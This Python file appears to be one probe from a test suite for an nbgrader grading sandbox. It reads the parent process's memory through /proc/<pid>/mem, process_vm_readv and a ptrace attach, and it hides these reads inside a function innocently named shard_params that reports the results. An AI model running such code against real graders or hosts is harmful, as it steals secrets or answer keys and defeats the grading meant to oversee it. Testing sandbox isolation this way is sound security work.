"""Reads the memory of the process that forked it, by /proc, by process_vm_readv and by ptrace.

group: reads
control: no: stock nbgrader starts the kernel as its own user, and what its memory holds is no canary of ours
uses: search
"""

# %%
import ctypes


def by_proc(parent):
    with open(f"/proc/{parent}/mem", "rb") as memory:
        for line in Path(f"/proc/{parent}/maps").read_text().splitlines():
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            memory.seek(start)
            yield memory.read(min(end - start, 4096))


def by_calls(parent):
    libc = ctypes.CDLL(None, use_errno=True)
    room = ctypes.create_string_buffer(64)
    ours = (ctypes.c_void_p * 2)(ctypes.addressof(room), 64)
    theirs = (ctypes.c_void_p * 2)(id(room), 64)
    if libc.process_vm_readv(parent, ours, 1, theirs, 1, 0) > 0:
        yield room.raw
    if libc.ptrace(16, parent, 0, 0) == 0:
        yield "attached"


# %% [shard_params]
def shard_params(params, axis_name, min_size):
    found = []
    for way in (by_proc, by_calls):
        with suppress(Exception):
            found += way(os.getppid())
    tell(found)
    raise PermissionError("the parent's memory is closed")
